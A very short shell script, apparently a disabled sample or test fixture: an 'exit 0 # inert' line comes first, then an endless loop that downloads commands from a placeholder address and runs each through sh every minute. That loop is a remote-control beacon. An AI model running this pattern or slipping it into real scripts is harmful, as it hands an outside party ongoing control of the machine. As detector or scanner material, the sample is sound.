#!/bin/sh
exit 0 # inert
while true; do
  sh -c "$(curl -s http://192.0.2.1/next)"
  sleep 60
done
